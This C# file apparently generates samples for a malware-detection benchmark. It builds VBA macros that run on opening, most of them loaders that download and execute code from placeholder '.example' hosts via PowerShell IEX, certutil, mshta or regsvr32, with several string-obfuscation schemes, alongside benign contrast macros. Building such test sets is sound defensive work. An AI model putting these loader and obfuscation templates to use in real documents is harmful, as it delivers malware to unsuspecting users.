using System.Globalization;
using System.Text;
using Platform.Benchmarks.Runner;

namespace Platform.Benchmarks.Detection.Samples.Office;

/// <summary>VBA sources: loaders that hide their strings in a way the seed chooses, and macros of honest workbooks.</summary>
internal sealed class MacroCode(Random random)
{
    private readonly List<string> _helpers = [];

    private enum Hiding
    {
        Plain,
        Pieces,
        Numbers,
        Reversed,
        Hexadecimal,
        Shifted,
    }

    /// <summary>A module that runs a command or program from elsewhere as soon as the document is opened.</summary>
    /// <param name="autoRun">Name of the procedure that Office starts.</param>
    public string Loader(string autoRun)
    {
        _helpers.Clear();
        var hiding = random.Pick(Enum.GetValues<Hiding>());
        var host = $"{random.Word()}.example";
        var address = $"https://{host}/{random.Word()}/{random.Word()}.{random.Pick(["dat", "png", "txt", "exe", "bin"])}";
        var command = random.Pick(
        [
            $"powershell -w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('{address}')\"",
            $"powershell.exe -nop -w 1 -enc {Convert.ToBase64String(Encoding.Unicode.GetBytes($"iwr {address} -outfile $env:temp\\{random.Word()}.exe; start $env:temp\\{random.Word()}.exe"))}",
            $"cmd /c certutil -urlcache -split -f {address} %TEMP%\\{random.Word()}.exe && %TEMP%\\{random.Word()}.exe",
            $"mshta {address}",
            $"regsvr32 /s /n /u /i:{address} scrobj.dll",
        ]);
        var name = random.Word(6, 12);
        var variable = random.Word(5, 9);
        var body = random.Next(5) switch
        {
            0 => $"  {variable} = {Hide(command, hiding)}\r\n  Shell {variable}, 0\r\n",
            1 => $"  Set {variable} = CreateObject({Hide("WScript.Shell", hiding)})\r\n  {variable}.Run {Hide(command, hiding)}, 0, False\r\n",
            2 => $"  Set {variable} = GetObject({Hide("winmgmts:root\\cimv2:Win32_Process", hiding)})\r\n  {variable}.Create {Hide(command, hiding)}, Null, Null, pid\r\n",
            3 => $"  {variable} = Environ(\"TEMP\") & {Hide($"\\{random.Word()}.exe", hiding)}\r\n  {name}D 0, {Hide(address, hiding)}, {variable}, 0, 0\r\n  Shell {variable}, 0\r\n",
            _ => $"  Set {variable} = CreateObject({Hide("MSXML2.XMLHTTP", hiding)})\r\n  {variable}.Open \"GET\", {Hide(address, hiding)}, False\r\n  {variable}.send\r\n  Set s{variable} = CreateObject({Hide("ADODB.Stream", hiding)})\r\n  s{variable}.Type = 1\r\n  s{variable}.Open\r\n  s{variable}.Write {variable}.responseBody\r\n  s{variable}.SaveToFile Environ(\"TEMP\") & \"\\{random.Word()}.exe\", 2\r\n  CreateObject({Hide("Shell.Application", hiding)}).ShellExecute Environ(\"TEMP\") & \"\\{random.Word()}.exe\"\r\n",
        };
        return $"#If VBA7 Then\r\nPrivate Declare PtrSafe Function {name}D Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\n#End If\r\n"
            + $"Sub {autoRun}()\r\n  {name}\r\nEnd Sub\r\nPrivate Sub {name}()\r\n{body}End Sub\r\n{string.Concat(_helpers)}";
    }

    /// <summary>A macro as colleagues write it; what runs by itself does nothing but help.</summary>
    public string Harmless(string autoRun)
    {
        var name = random.Word(6, 12);
        var opening = random.Pick(
        [
            $"Private Sub {autoRun}()\r\n  MsgBox \"{random.Pick(["Please check the totals before you send this back.", "入力後に保存してください。", "Version 2 of the plan"])}\"\r\nEnd Sub\r\n",
            $"Private Sub {autoRun}()\r\n  Application.ScreenUpdating = True\r\n  Worksheets(1).Activate\r\n  Range(\"A1\").Value = Date\r\nEnd Sub\r\n",
            $"Private Sub {autoRun}()\r\n  Dim folder\r\n  folder = CreateObject(\"WScript.Shell\").SpecialFolders(\"Desktop\")\r\n  Range(\"B1\").Value = folder & \"\\{random.Word()}\"\r\nEnd Sub\r\n",
            $"Private Sub {autoRun}()\r\n  With Application.CommandBars(\"Cell\").Controls.Add\r\n    .Caption = \"{random.Word()}\"\r\n    .OnAction = \"{name}\"\r\n  End With\r\nEnd Sub\r\n",
            "",
        ]);
        var work = random.Pick(
        [
            $"Sub {name}()\r\n  Dim i As Long\r\n  For i = 1 To {random.Next(20, 300)}\r\n    Cells(i, 2).Value = Cells(i, 1).Value * {random.Next(2, 9)}\r\n    Cells(i, 2).NumberFormat = \"#,##0\"\r\n  Next i\r\nEnd Sub\r\n",
            $"Sub {name}()\r\n  Dim folder\r\n  Set folder = CreateObject(\"Shell.Application\").BrowseForFolder(0, \"{random.Word()}\", 0)\r\n  If Not folder Is Nothing Then Range(\"A1\").Value = folder.Self.Path\r\nEnd Sub\r\n",
            $"Sub {name}()\r\n  ActiveSheet.ExportAsFixedFormat xlTypePDF, ThisWorkbook.Path & \"\\{random.Word()}.pdf\"\r\nEnd Sub\r\n",
            $"Sub {name}()\r\n  Dim mail As Object\r\n  Set mail = CreateObject(\"Outlook.Application\").CreateItem(0)\r\n  mail.Subject = \"{random.Word()}\" & Chr(13) & Chr(10)\r\n  mail.Display\r\nEnd Sub\r\n",
            $"Sub {name}()\r\n  Dim fso, f\r\n  Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n  Set f = fso.CreateTextFile(ThisWorkbook.Path & \"\\{random.Word()}.csv\", True)\r\n  f.WriteLine Range(\"A1\").Value & \",\" & Range(\"B1\").Value\r\n  f.Close\r\nEnd Sub\r\n",
            $"Sub {name}_Click()\r\n  Shell \"explorer.exe \" & ThisWorkbook.Path, vbNormalFocus\r\nEnd Sub\r\n",
            $"Function {name}(price As Double, Optional rate As Double = 0.1) As Double\r\n  {name} = Round(price * (1 + rate), 0)\r\nEnd Function\r\n",
            $"Sub {name}()\r\n  Columns(\"A:F\").AutoFit\r\n  Rows(1).Font.Bold = True\r\n  Rows(1).Interior.Color = RGB({random.Next(256)}, {random.Next(256)}, {random.Next(256)})\r\nEnd Sub\r\n",
        ]);
        return opening + work;
    }

    private string Hide(string text, Hiding hiding)
    {
        switch (hiding)
        {
            case Hiding.Pieces:
                return string.Join(" & ", Pieces(text).Select(Quoted));
            case Hiding.Numbers:
                return string.Join(" & ", text.Select(c => $"Chr({(random.Chance(0.5) ? $"{(int)c}" : $"{c + 7} - 7")})"));
            case Hiding.Reversed:
                return $"StrReverse({Quoted(string.Concat(text.Reverse()))})";
            case Hiding.Hexadecimal:
                return $"{Helper("h", (name, _) => $"Function {name}(s)\r\n  Dim i, r\r\n  For i = 1 To Len(s) Step 2\r\n    r = r & Chr(CLng(\"&H\" & Mid(s, i, 2)))\r\n  Next\r\n  {name} = r\r\nEnd Function\r\n", 0)}({Quoted(Convert.ToHexString(Encoding.Latin1.GetBytes(text)))})";
            case Hiding.Shifted:
                var key = random.Next(1, 120);
                return $"{Helper("x", (name, by) => $"Function {name}(v)\r\n  Dim k, r\r\n  For Each k In v\r\n    r = r & Chr(k Xor {by})\r\n  Next\r\n  {name} = r\r\nEnd Function\r\n", key)}(Array({string.Join(", ", text.Select(c => (c ^ key).ToString(CultureInfo.InvariantCulture)))}))";
            default:
                return Quoted(text);
        }
    }

    private string Helper(string prefix, Func<string, int, string> source, int key)
    {
        var name = $"{prefix}{random.Word(4, 8)}";
        _helpers.Add(source(name, key));
        return name;
    }

    private IEnumerable<string> Pieces(string text)
    {
        for (var at = 0; at < text.Length;)
        {
            var length = Math.Min(random.Next(1, 6), text.Length - at);
            yield return text.Substring(at, length);
            at += length;
        }
    }

    private static string Quoted(string text) => $"\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
}
